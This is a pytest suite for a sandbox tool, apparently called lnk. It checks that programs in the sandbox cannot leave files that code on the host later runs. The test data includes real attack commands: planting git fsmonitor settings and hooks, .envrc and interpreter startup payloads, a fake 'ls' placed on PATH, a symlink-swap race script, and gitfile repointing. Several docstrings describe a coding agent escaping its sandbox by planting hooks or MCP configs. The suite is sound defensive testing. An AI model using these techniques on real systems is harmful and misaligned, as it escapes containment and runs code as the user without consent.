"""Invariant 8, what runs outside later: nothing the program writes, moves
or leaves may be run or trusted by a program on the host afterwards: the
dot-file list, and the classes beyond names planned by
src/guard/protect.c (git directories, known repositories, config-named
paths, the home folder's top, link targets, modes and owners; see
docs/runs-outside.md); a tool run outside runs and loads nothing the
program can write; and what lnk prints of what others chose is escaped,
so no escape sequence reaches the user's terminal from lnk.

Attacks on it from inside a sandbox, one block a promise: each test
PASSES when the sandbox holds and FAILS when the attack works (more in
attack_helpers.py; a new attack: docs/HACKING.md, "Add an attack test").
"""
# Blocks, one a promise of the invariant:
#   A. Names that run code outside
#   B. Git: its directories, repositories and what a config names
#   C. The home folder's top, its module folders and link targets
#   D. Modes and owners
#   E. PATH and the configuration the environment names
#   F. The system's trees
#   G. Tools, dialogs and lnk itself, run outside
#   H. Escapes in lnk's own output
#   I. Completions in the user's shell
#   J. The changes report

import json
import os
import platform
import pathlib
import shutil
import signal
import subprocess
import textwrap
import time

import pytest

from conftest import IS_ROOT, Lnk, on_lnk_path
from attack_helpers import (PROXY_PRELUDE, PY, _tool_on_path, assert_clean,
                            in_private_mounts, lnk_under_mounts, plant, py,
                            sh)


# =============================================================================
# A. Names that run code outside
#    Promise: the names that run code outside are never planted at the top of a
#    write folder.
# =============================================================================


# Names that run code outside the sandbox, found missing from the protected
# list (src/policy/dotfiles.c) by this file and added there. With --write '~'
# the top is the home, where each of these runs as the user next time git,
# vim, tmux, an agent... starts.
HOME_RUNS_OUTSIDE = {
    ".gitconfig": "git runs core.fsmonitor, core.pager, aliases from it",
    ".vimrc": "vim runs its commands",
    ".tmux.conf": "tmux runs run-shell lines",
    ".inputrc": "readline macros type commands into the user's shell",
    ".claude": "Claude Code runs the hooks in its settings.json",
    ".cargo": "cargo runs build.rustc-wrapper; ~/.cargo/bin is on PATH",
    ".docker": "docker runs the credential helpers config.json names",
    ".kube": "kubectl runs exec credential plugins",
    ".aws": "the AWS CLI runs credential_process",
    ".gdbinit": "gdb runs it",
    ".pam_environment": "login sets LD_PRELOAD etc. from it",
    ".xprofile": "the display manager sources it",
}


@pytest.mark.parametrize("name", [
    pytest.param(n) for n in sorted(HOME_RUNS_OUTSIDE)] + [
    pytest.param(n) for n in (".bashrc", ".profile", ".ssh", ".config",
                              ".local", ".npmrc", ".zshenv")])
def test_home_dot_files_that_run_outside_not_created(lnk, home, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: --write '~' lets it plant ~/.gitconfig, ~/.vimrc, ..."""
    cp = sh(lnk, f"echo evil > ~/{name}; mkdir -p ~/{name}/x 2>/dev/null",
            "--write", home)
    assert not (home / name).exists(), cp.stderr


# Names that run code outside when they appear at the top of a project.
PROJECT_RUNS_OUTSIDE = {
    ".claude": "Claude Code runs the hooks of .claude/settings.json",
    ".cursor": "Cursor starts the MCP servers of .cursor/mcp.json",
    ".mise.toml": "mise runs its env hooks on cd, like direnv",
    ".yarnrc.yml": "yarn runs the yarnPath script it names",
    ".gitlab-ci.yml": "CI runs it with the project's tokens",
    ".devcontainer": "the editor builds and runs the container it names",
    ".Rprofile": "R runs it when started in the folder",
}


@pytest.mark.parametrize("name", sorted(PROJECT_RUNS_OUTSIDE))
def test_project_dot_files_that_run_outside_not_created(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: an agent plants .claude/settings.json hooks in the project."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


@pytest.mark.parametrize("name", [
    ".gemini", ".qwen", ".codex", "opencode.json", "opencode.jsonc",
    ".opencode", ".kiro", ".amazonq", ".roo", ".continue", ".junie",
    "crush.json", ".crush.json", ".aider.conf.yml"])
def test_agent_configs_that_start_servers_not_created(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: a coding agent run later in the project, outside any
    sandbox, starts the MCP servers its project config names (Gemini CLI
    and Qwen Code: .gemini/settings.json, .qwen/settings.json, folder trust
    off by default; OpenCode: opencode.json(c) or .opencode/; Kiro, Roo,
    Continue, Junie, Crush, Codex in a trusted project) or runs the lint
    and test commands it sets (aider): a command the program chose runs as
    the user."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


RUNS_OUTSIDE_NAMES = [
    "mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml",
    ".mise", "lefthook.yml", ".lefthook.yml", "lefthook-local.yml",
    ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".hg", ".jj", ".sl", ".svn",
    ".bzr", ".envrc.local", ".env", ".dir-locals.el", ".exrc", ".nvim.lua",
    ".nvimrc", ".tool-versions", "_darcs", ".pijul", ".fslckout",
    "_FOSSIL_", ".dir-locals-2.el", ".lvimrc", ".lazy.lua", ".zed", ".helix",
    ".devcontainer.json", ".pdbrc", ".irbrc", ".pryrc", ".ghci", ".octaverc",
    "rust-toolchain", "rust-toolchain.toml", ".huskyrc", ".huskyrc.json",
    ".huskyrc.js", ".overcommit.yml", "mise",
    # vim's names without a dot: ~/_vimrc when there is no ~/.vimrc, and
    # with exrc _vimrc and _exrc in the folder
    "_vimrc", "_gvimrc", "_exrc",
    # lefthook's and husky's other spellings of the same configuration
    "lefthook.yaml", "lefthook.toml", "lefthook.json", ".lefthook.yaml",
    ".lefthook.toml", ".lefthook.json", "lefthook-local.yaml",
    "lefthook-local.toml", "lefthook-local.json", ".lefthook-local.yml",
    ".lefthook-local.yaml", ".lefthook-local.toml", ".lefthook-local.json",
    ".huskyrc.yaml", ".huskyrc.yml", ".huskyrc.cjs", "husky.config.js",
    "husky.config.cjs", ".pnpmfile.mjs", ".gvimrc"]


@pytest.mark.parametrize("name", RUNS_OUTSIDE_NAMES)
def test_more_names_that_run_outside_not_created(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: mise, lefthook, yarn, pnpm, other VCS, direnv, editors run
    what these names hold when the user next works in the folder."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


# Files at the top of a project that a tool run outside later trusts: git
# LFS's .lfsconfig (lfs.url: where the next `git push` uploads the files a
# program wrote, and asks for credentials), git-review's .gitreview (the
# host the next `git review` pushes to over ssh), and the CI systems beside
# .github and .gitlab-ci.yml, which run a pushed file with the project's
# secrets.
TRUSTED_LATER_NAMES = [
    ".lfsconfig", ".gitreview", ".circleci", ".travis.yml", "Jenkinsfile",
    ".buildkite", "azure-pipelines.yml", "bitbucket-pipelines.yml",
    ".drone.yml", ".woodpecker.yml", ".woodpecker", ".gitea", ".forgejo",
    ".cirrus.yml"]


@pytest.mark.parametrize("name", TRUSTED_LATER_NAMES)
def test_files_tools_trust_later_not_created(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: a program with no network plants .lfsconfig naming its own
    server, so the user's next `git push` carries what it wrote (secrets it
    read) there; or a CI file that runs at the next push with the
    project's secrets. Each is refused at the top of a write folder, and an
    existing one stays read only."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr
    (work / name).write_text("mine\n")
    cp = sh(lnk, f"echo evil >> {name}; mv {name} x; rm -f {name}",
            "--write", work)
    assert (work / name).read_text() == "mine\n", cp.stderr


def sh_to_the_end(lnk, script, *grants, timeout=60, **kw):
    """Runs SCRIPT in a sandbox with GRANTS from the project (lnk's cwd) and
    checks that it ran to its end: a refused start would hold every attack
    and prove nothing. The mark is left in the first write folder."""
    marker = pathlib.Path(grants[list(grants).index("--write") + 1]) \
        / "ran.marker"
    cp = lnk.run(*grants, "--", "/bin/sh", "-c",
                 f"{script}\necho ran > '{marker}'", timeout=timeout, **kw)
    assert marker.exists(), cp.stderr
    marker.unlink()
    return cp


# The launcher settings of a build tool on a Debian host, read from the
# project's top at its next start: Maven's `.mvn/` (jvm.config's
# `-javaagent:` runs a jar the program wrote, maven.config its options,
# extensions.xml the extensions it loads; an editor's Java extension runs
# Maven on open) and git-buildpackage's `.gbp.conf` (its postbuild,
# postexport and prebuild hooks are shell commands, run at the next
# `gbp buildpackage`).
# The same for sbt (.jvmopts and .sbtopts: `-javaagent` runs a jar),
# bazelisk (.bazeliskrc's BAZELISK_BASE_URL or .bazelversion pick the
# bazel it downloads and runs), PDM (.pdm-python: the interpreter it runs),
# YouCompleteMe (.ycm_extra_conf.py, run as Python when a file is opened)
# and zsh-autoenv (.autoenv.zsh, sourced on cd).
# Editors' and language servers' per-project settings that run programs:
# sbt's and Metals' build server (.bsp/*.json: the command it starts when
# the editor opens the folder), Theia's settings and tasks, rope's
# config.py (run when an editor opens the project), the Lua language
# server's and Solargraph's plugins.
LAUNCHER_NAMES = [".mvn", ".gbp.conf", ".jvmopts", ".sbtopts",
                  ".bazeliskrc", ".bazelversion", ".pdm-python",
                  ".ycm_extra_conf.py", ".autoenv.zsh",
                  ".autoenv_leave.zsh", ".bsp", ".theia", ".ropeproject",
                  ".luarc.json", ".luarc.jsonc", ".solargraph.yml"]


@pytest.mark.parametrize("name", LAUNCHER_NAMES)
def test_build_launcher_settings_not_planted(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: the program leaves `.mvn/jvm.config` with
    `-javaagent:agent.jar` (or a `.gbp.conf` whose postbuild hook is its
    command) in the project; the user's next `mvn` (or an editor opening
    the folder) or `gbp buildpackage` runs it outside, as the user."""
    cp = sh_to_the_end(lnk, f"mkdir {name} 2>/dev/null; "
                       f"echo '[DEFAULT]' > {name} 2>/dev/null; true",
                       "--write", work)
    assert not (work / name).exists(), cp.stderr
    (work / name).write_text("# mine\n")
    cp = sh_to_the_end(lnk, f"echo evil >> {name}; mv {name} old; true",
                       "--write", work)
    assert (work / name).read_text() == "# mine\n", cp.stderr
    assert not (work / "old").exists()


# Read from the folder an interpreter or debugger starts in (their startup
# code): the OCaml toplevel and utop (.ocamlinit), irb (irb.rc, _irbrc),
# perl -d (.perldb), R (.Renviron names the profile it runs), lldb.
STARTUP_NAMES = [".ocamlinit", "irb.rc", "_irbrc", ".perldb", ".Renviron",
                 ".lldbinit"]


@pytest.mark.parametrize("name", STARTUP_NAMES)
def test_interpreter_startup_names_not_planted(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: the program leaves `.ocamlinit` (or another startup file an
    interpreter reads from the current folder) in the project; the user's
    next `ocaml` or `utop` there runs it, outside."""
    cp = sh_to_the_end(lnk, f"echo 'Sys.command \"touch pwned\";;' > {name}; true",
            "--write", work)
    assert not (work / name).exists(), cp.stderr
    (work / name).write_text("(* mine *)\n")
    cp = sh_to_the_end(lnk, f"echo 'Sys.command \"touch pwned\";;' >> {name}; "
                 f"mv {name} old; true", "--write", work)
    assert (work / name).read_text() == "(* mine *)\n", cp.stderr
    assert not (work / "old").exists()


# Read from the folder a tool on a Debian host starts in, as options or
# code: Universal Ctags reads every `*.ctags` of `./.ctags.d/` and
# `./ctags.d/`, Exuberant Ctags `./.ctags` (options: `-f FILE --append=yes --output-format=xref
# --_xformat=%N` and a regex parser write a file of the program's choosing
# wherever the user can, a `~/.bash_aliases` Debian's .bashrc sources);
# GNU GLOBAL reads `[project root]/gtags.conf` (its `gtags_parser` loads a
# shared object, `ctagscom` names a program; Emacs' ggtags runs `global -u`
# at each save); latexmk runs `./.latexmkrc` as Perl (editors' LaTeX
# extensions run latexmk at each change); valgrind takes `./.valgrindrc`'s
# options (`--xml-file`, `--log-file`: its report written to any file).
TOOL_OPTION_NAMES = [".ctags.d", "ctags.d", ".ctags", "gtags.conf",
                     ".latexmkrc", ".valgrindrc"]


@pytest.mark.parametrize("name", TOOL_OPTION_NAMES)
def test_tool_option_files_in_the_folder_not_planted(lnk, work, name):
    """Invariant 8 (what runs outside later), promise: the names that run code
    outside are never planted at the top of a write folder.

    Threat: the program leaves `.ctags.d/x.ctags` (or `gtags.conf`,
    `.latexmkrc`, `.valgrindrc`) in the project; the user's next `ctags -R`
    there (or an editor's tags plugin, a LaTeX build on save) writes a
    startup file of the program's choosing, loads its shared object or runs
    its Perl, outside. Each is refused at the top of a write folder, and an
    existing one stays read only."""
    cp = sh_to_the_end(lnk, f"mkdir {name} 2>/dev/null; "
                       f"echo '-f/tmp/x' > {name} 2>/dev/null; true",
                       "--write", work)
    assert not (work / name).exists(), cp.stderr
    (work / name).write_text("# mine\n")
    cp = sh_to_the_end(lnk, f"echo evil >> {name}; mv {name} old; true",
                       "--write", work)
    assert (work / name).read_text() == "# mine\n", cp.stderr
    assert not (work / "old").exists()


# A program that waits for the host: it says "ready", waits for the file
# "go" in its folder, then runs its attack (argv[1], a shell line) and
# prints each step's status. With argv[2] "early" it first makes a file,
# so that the guard's watches are made before the host acts (they are
# made at the first call that may change something): the host's change
# then comes as an event, not as what the first rescan finds.
WAIT_FOR_HOST = r"""
import os, subprocess, sys, time
if sys.argv[2:] == ["early"]:
    open("early", "w").close()
print("ready", flush=True)
while not os.path.exists("go"):
    time.sleep(0.02)
subprocess.run(["/bin/sh", "-c", sys.argv[1]])
"""


def while_it_runs(lnk, work, attack, host, *grants, early=False):
    """Runs the program WAIT_FOR_HOST in work with attack; once it is
    ready, host() acts outside, then the program goes on. Returns the
    run's CompletedProcess-like (stdout, stderr, returncode)."""
    prog = work.parent / "wait_for_host.py"
    prog.write_text(WAIT_FOR_HOST)
    p = subprocess.Popen(
        [lnk.bin, "sandbox", "run", "--read", str(prog), *map(str, grants),
         "--", PY, str(prog), attack] + (["early"] if early else []),
        cwd=str(work), env=lnk.env(), stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True)
    try:
        assert p.stdout.readline().strip() == "ready", p.stderr.read()
        host()
        (work / "go").write_text("")
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    return subprocess.CompletedProcess(p.args, p.returncode, out, err)


@pytest.mark.parametrize("early", [False, True], ids=["rescan", "event"])
def test_a_repository_made_outside_while_it_runs_is_kept(lnk, work, early):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept as one there at the start.

    Threat: you run `git init` in the project while an agent works in it.
    The new .git has no read-only mount (that is made at the start), so
    the program wrote its config (core.fsmonitor) and a hook, which your
    next `git status` and commit ran outside."""
    attack = ("printf '[core]\\n\\tfsmonitor = touch pwned\\n' "
              ">> .git/config; echo cfg=$?; "
              "echo 'touch pwned' > .git/hooks/pre-commit; echo hook=$?; "
              "mkdir .git/hooks/x; echo dir=$?; "
              "mv .git/description desc; echo mv=$?; "
              "rm .git/HEAD; echo rm=$?; "
              # by a descriptor opened to read, reopened to write
              "exec 3<.git/config; echo x >> /proc/self/fd/3; echo fd=$?; "
              "truncate -s 0 /proc/self/fd/3; echo trunc=$?; "
              "chmod 777 .git/hooks; echo chmod=$?; "
              "chmod 666 .git/config; echo chmodf=$?; "
              "echo ok > elsewhere; echo other=$?")
    cp = while_it_runs(
        lnk, work, attack,
        lambda: subprocess.run(["git", "init", "-q", str(work)], check=True),
        "--write", work, early=early)
    for step in ("cfg", "hook", "dir", "mv", "rm", "fd", "trunc", "chmod",
                 "chmodf"):
        assert f"{step}=0" not in cp.stdout, (step, cp.stdout, cp.stderr)
    assert "other=0" in cp.stdout, (cp.stdout, cp.stderr)
    assert "fsmonitor" not in (work / ".git" / "config").read_text()
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "HEAD").exists()
    assert "lnk: refused a change in" in cp.stderr and ".git" in cp.stderr, \
        cp.stderr


def test_a_path_folder_made_again_outside_while_it_runs_is_kept(lnk, work):
    """Invariant 8 (what runs outside later), promise: a folder on the
    user's PATH inside a write folder stays read only when it is made
    again outside during the run.

    Threat: the virtualenv's bin on your PATH is made again while the
    agent works (`python -m venv --clear`, `rm -rf node_modules && npm
    i`); the new folder has no read-only mount, and the program put an
    `ls` there that your shell ran next."""
    bin_dir = work / "venv" / "bin"
    bin_dir.mkdir(parents=True)

    def remake():
        shutil.rmtree(bin_dir)
        bin_dir.mkdir()
        (bin_dir / "python").write_text("")
    env_path = f"{bin_dir}:/usr/local/bin:/usr/bin:/bin"
    base = lnk.env
    lnk.env = lambda extra=None: {**base(extra), "PATH": env_path}
    cp = while_it_runs(
        lnk, work, "printf '#!/bin/sh\\necho pwned\\n' > venv/bin/ls; "
        "echo w=$?; rm venv/bin/python; echo rm=$?", remake,
        "--write", work)
    assert "w=0" not in cp.stdout and "rm=0" not in cp.stdout, (
        cp.stdout, cp.stderr)
    assert sorted(os.listdir(bin_dir)) == ["python"]
    assert "venv/bin: made or replaced outside" in cp.stderr, cp.stderr


def test_an_entry_made_outside_keeps_its_link_and_its_moves(lnk, work):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept as one there at the start: a
    link's target too, and the entry while it is moved away and back.

    Threat: .envrc made outside as a link to envrc.real: only the link
    was kept, and the program appended to its target, which direnv runs.
    And `mv .git .git-bak` outside, then back: the program wrote
    .git-bak/config while it was away, and it came back with it."""
    (work / "envrc.real").write_text("export A=1\n")
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    (work / ".git").rename(work / ".git-start")

    def host():
        (work / ".envrc").symlink_to("envrc.real")
        (work / ".git-start").rename(work / ".git")
        (work / ".git").rename(work / ".git-bak")
    cp = while_it_runs(
        lnk, work, "echo 'touch pwned' >> envrc.real; echo t=$?; "
        "echo '[core] fsmonitor = x' >> .git-bak/config; echo away=$?",
        host, "--write", work, early=True)
    assert "t=0" not in cp.stdout and "away=0" not in cp.stdout, (
        cp.stdout, cp.stderr)
    assert (work / "envrc.real").read_text() == "export A=1\n"
    assert "fsmonitor" not in (work / ".git-bak" / "config").read_text()


def test_a_link_made_outside_keeps_its_way(lnk, work):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept as one there at the start: a
    link's way and the name it ends at, there or not.

    Threat: .envrc made outside as a link to config/envrc: the program
    renamed config and made its own config/envrc, which the link then led
    to; .envrc2 made as a link to a missing envrc.local: the program made
    envrc.local. A link kept from the start keeps both."""
    (work / "config").mkdir()
    (work / "config" / "envrc").write_text("export A=1\n")

    def host():
        (work / ".envrc").symlink_to("config/envrc")
        (work / ".env").symlink_to("env.local")
    cp = while_it_runs(
        lnk, work, "mv config config.old; echo mv=$?; "
        "mkdir -p config; echo 'touch pwned' > config/envrc; echo plant=$?; "
        "echo 'X=1' > env.local; echo dang=$?; "
        "echo ok > config/other; echo other=$?", host, "--write", work)
    for step in ("mv", "plant", "dang"):
        assert f"{step}=0" not in cp.stdout, (step, cp.stdout, cp.stderr)
    assert "other=0" in cp.stdout, cp.stdout
    assert (work / ".envrc").read_text() == "export A=1\n"
    assert not (work / "env.local").exists()


def test_a_repository_made_moved_and_made_again_at_once_is_kept(lnk, work):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept as one there at the start,
    however quickly it moves.

    Threat: outside, `git init; mv .git .git-bak; git init` between two of
    the program's calls: only the name .git was looked at, so the first
    repository, at .git-bak, was never kept; the program wrote its
    config, and it came back with `mv .git-bak .git`."""
    def host():
        subprocess.run(["git", "init", "-q", str(work)], check=True)
        (work / ".git").rename(work / ".git-bak")
        subprocess.run(["git", "init", "-q", str(work)], check=True)
    cp = while_it_runs(
        lnk, work, "echo '[core] fsmonitor = x' >> .git-bak/config; "
        "echo bak=$?; echo '[core] fsmonitor = x' >> .git/config; "
        "echo new=$?", host, "--write", work, early=True)
    assert "bak=0" not in cp.stdout and "new=0" not in cp.stdout, (
        cp.stdout, cp.stderr)


SWAP_RACE = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("safe")
os.symlink("safe", "l")
os.symlink(".git", "l2")
kid = os.fork()
if kid == 0:
    while True:  # renameat2(AT_FDCWD, "l", AT_FDCWD, "l2", RENAME_EXCHANGE)
        libc.syscall(316, -100, b"l", -100, b"l2", 2)
end = time.time() + 4
tries = 0
while time.time() < end and os.path.exists(".git/description"):
    tries += 1
    try:
        os.unlink("l/description")
    except OSError:
        pass
os.kill(kid, 9)
print("gone" if not os.path.exists(".git/description") else "kept", tries)
"""


def test_a_removal_racing_a_swapped_link_keeps_a_late_entry(lnk, work):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept as one there at the start.

    Threat: removals were checked on the path, then left to the kernel,
    which looked the path up again: a link swapped on the way in between
    (l -> safe, then l -> .git) removed files of the repository you made
    during the run (its refs, its index), in a few tries."""
    prog = work.parent / "swap_race.py"
    prog.write_text(SWAP_RACE)
    cp = while_it_runs(
        lnk, work, f"{PY} {prog}",
        lambda: subprocess.run(["git", "init", "-q", str(work)], check=True),
        "--write", work, "--read", prog)
    assert "kept" in cp.stdout, (cp.stdout, cp.stderr)
    assert (work / ".git" / "description").exists()


def test_output_to_a_file_outside_still_reopens_after_a_late_entry(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a guarded name made
    outside while the sandbox runs is kept, and nothing else is refused
    for it.

    Threat (to the user's work): once something outside made .git during
    the run, `echo x > /dev/stdout` failed with EPERM when the sandbox's
    output went to a file outside its folders (a CI log): the descriptor
    could not be found in the sandbox's tree, and was refused."""
    log = tmp_path / "out.log"
    prog = work.parent / "wait_for_host.py"
    prog.write_text(WAIT_FOR_HOST)
    with open(log, "a") as out:  # O_APPEND: every writer appends
        p = subprocess.Popen(
            [lnk.bin, "sandbox", "run", "--read", str(prog), "--write",
             str(work), "--", PY, "-u", str(prog),
             "echo a >> /dev/stdout || echo FAIL-a; "
             "echo b >> /proc/self/fd/1 || echo FAIL-b; echo done"],
            cwd=str(work), env=lnk.env(), stdout=out,
            stderr=subprocess.PIPE, text=True)
        for _ in range(200):
            if "ready" in log.read_text():
                break
            time.sleep(0.05)
        subprocess.run(["git", "init", "-q", str(work)], check=True)
        (work / "go").write_text("")
        _, err = p.communicate(timeout=60)
    text = log.read_text()
    assert "FAIL" not in text and "not permitted" not in err, (text, err)
    assert "a\nb\ndone" in text, (text, err)


@pytest.mark.parametrize("early", [False, True], ids=["rescan", "event"])
@pytest.mark.parametrize("how", ["rename", "remove-and-make"])
def test_a_dot_file_replaced_outside_while_it_runs_stays_read_only(
        lnk, work, how, early):
    """Invariant 8 (what runs outside later), promise: an existing
    protected file stays read only when it is replaced outside during the
    run.

    Threat: the read-only mount over .envrc is on the file as it was at
    the start; an editor's save (a new file renamed over it), `git
    checkout` or `git config --global` replaces the file, the kernel
    detaches the mount from the sandbox, and the program appended to the
    new .envrc, which direnv runs at your next `cd`."""
    (work / ".envrc").write_text("export A=1\n")

    def replace():
        if how == "rename":
            (work / ".envrc.tmp").write_text("export A=2\n")
            os.rename(work / ".envrc.tmp", work / ".envrc")
        else:
            (work / ".envrc").unlink()
            (work / ".envrc").write_text("export A=2\n")
    cp = while_it_runs(
        lnk, work, "echo 'touch pwned' >> .envrc; echo app=$?; "
        ": > .envrc; echo trunc=$?; rm .envrc; echo rm=$?", replace,
        "--write", work, early=early)
    assert (work / ".envrc").read_text() == "export A=2\n", cp.stderr
    assert "app=0" not in cp.stdout and "trunc=0" not in cp.stdout
    assert "rm=0" not in cp.stdout, (cp.stdout, cp.stderr)
    assert "lnk: refused a change in" in cp.stderr, cp.stderr
    assert ".envrc: made or replaced outside" in cp.stderr, cp.stderr


# =============================================================================
# B. Git: its directories, repositories and what a config names
#    Promise: git's directories, every repository the top one knows, and what a
#    config names are kept.
# =============================================================================

# Protection by a list of names at the top kept missing things; these
# attacks each plant something a program on the host later runs or trusts,
# by class: a folder git (or another VCS) would use, every repository the
# top one knows, the folders and files a repository's config names (the
# home folder's top and a protected link's target chain in block C).


def test_write_top_never_becomes_a_git_directory(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: `git init --bare .` at the top; the user's next git there runs
    core.fsmonitor. HEAD, objects, refs, config are not dot files."""
    cp = sh(lnk, "git init -q --bare . ; git config core.bare false; "
                 "echo 'ref: refs/heads/main' > HEAD; ln -s x HEAD; true",
            "--write", work)
    assert not (work / "HEAD").exists() and not (work / "HEAD").is_symlink(), \
        cp.stderr
    r = subprocess.run(["git", "-c", "safe.directory=*", "rev-parse",
                        "--absolute-git-dir"], cwd=work,
                       env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent",
                            "GIT_CEILING_DIRECTORIES": str(work.parent)},
                       capture_output=True, text=True)
    assert r.returncode != 0, r.stdout


def git(*args, cwd=None, check=True):
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent",
           "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "t",
           "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t", "LANG": "C"}
    return subprocess.run(["git", "-c", "safe.directory=*", *map(str, args)],
                          cwd=cwd, env=env, capture_output=True, text=True,
                          check=check)


def test_bare_repository_at_top_protected_like_dot_git(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the write folder IS a bare repository: rewrite its config,
    plant a hook, repoint HEAD."""
    git("init", "-q", "--bare", work)
    config = (work / "config").read_text()
    head = (work / "HEAD").read_text()
    cp = sh(lnk, "git config core.fsmonitor 'touch pwned'; "
                 "echo '[core] fsmonitor = x' >> config; "
                 "printf '#!/bin/sh\\n' > hooks/pre-commit; "
                 "echo 'ref: refs/heads/evil' > HEAD; mv hooks hooks.old; "
                 "mv config config.old; true", "--write", work)
    assert (work / "config").read_text() == config, cp.stderr
    assert (work / "HEAD").read_text() == head
    assert not (work / "hooks" / "pre-commit").exists()
    assert not (work / "hooks.old").exists()
    assert not (work / "config.old").exists()


def make_repo_with_submodule(work, populated=True):
    git("init", "-q", work)
    (work / ".gitmodules").write_text(
        '[submodule "lib/sub"]\n\tpath = lib/sub\n\turl = ./up\n')
    (work / "lib" / "sub").mkdir(parents=True)
    git("init", "-q", "--bare", work / ".git" / "modules" / "lib" / "sub")
    git("config", "-f", work / ".git/modules/lib/sub/config",
        "core.worktree", "../../../../lib/sub")
    if populated:
        (work / "lib" / "sub" / ".git").write_text(
            "gitdir: ../../.git/modules/lib/sub\n")


@pytest.mark.parametrize("populated", [True, False])
def test_submodule_gitfile_cannot_point_elsewhere(lnk, work, populated):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: copy the submodule's git dir, set core.fsmonitor there and
    point lib/sub/.git at the copy: the user's plain `git status` at the top
    recurses into it and runs the command."""
    make_repo_with_submodule(work, populated)
    before = (work / "lib/sub/.git").read_text() if populated else None
    cp = sh(lnk, """
        cd lib/sub
        git init -q --bare evil.git
        echo 'gitdir: evil.git' > .git
        rm -f .git; echo 'gitdir: evil.git' > .git
        cd ..; mv sub sub.old; mkdir -p sub; echo 'gitdir: x' > sub/.git
        mv ../lib ../lib2; true""", "--write", work)
    if populated:
        assert (work / "lib/sub/.git").read_text() == before, cp.stderr
    else:
        assert not (work / "lib/sub/.git").exists(), cp.stderr
    assert not (work / "lib/sub.old").exists()
    assert not (work / "lib2").exists()


def test_submodule_below_a_write_folder_in_a_repository(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: only a subfolder of the repository is granted (--write
    lib); the submodule's .git file lies in it, and the repository's
    core.hooksPath names a folder in it."""
    make_repo_with_submodule(work)
    git("-C", work, "config", "core.hooksPath", "lib/hooks")
    before = (work / "lib/sub/.git").read_text()
    cp = sh(lnk, """
        echo 'gitdir: /tmp/evil.git' > sub/.git; mv sub sub.old
        mkdir -p hooks; printf '#!/bin/sh\\n' > hooks/pre-commit; true""",
            "--write", work / "lib", cwd=work / "lib")
    assert (work / "lib/sub/.git").read_text() == before, cp.stderr
    assert not (work / "lib/sub.old").exists()
    assert not (work / "lib/hooks/pre-commit").exists()


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_submodule_only_in_the_index_protected(lnk, work, version):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: a gitlink the index records without a .gitmodules entry is
    still a submodule git status recurses into: repoint its .git."""
    git("init", "-q", work)
    for i in range(3):
        (work / f"f{i}").write_text("x\n")
        git("-C", work, "add", f"f{i}")
    git("-C", work, "update-index", "--add", "--cacheinfo",
        "160000,1111111111111111111111111111111111111111,deep/er/sub")
    git("-C", work, "update-index", "--index-version", version)
    if version == "3":  # an extended entry: intent to add
        (work / "n").write_text("n\n")
        git("-C", work, "add", "-N", "n")
    (work / "deep/er/sub").mkdir(parents=True)
    (work / "deep/er/sub/.git").write_text("gitdir: ../../../.git/x\n")
    cp = sh(lnk, "echo 'gitdir: /tmp/evil.git' > deep/er/sub/.git; "
                 "mv deep/er deep/er2; mv deep deep2; true", "--write", work)
    assert (work / "deep/er/sub/.git").read_text() == \
        "gitdir: ../../../.git/x\n", cp.stderr
    assert not (work / "deep2").exists()


def test_worktree_gitfile_protected(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: a linked worktree's .git file, repointed to a git dir of the
    program's, is used by the user's next git there."""
    git("init", "-q", work)
    git("-C", work, "commit", "-q", "--allow-empty", "-m", "x")
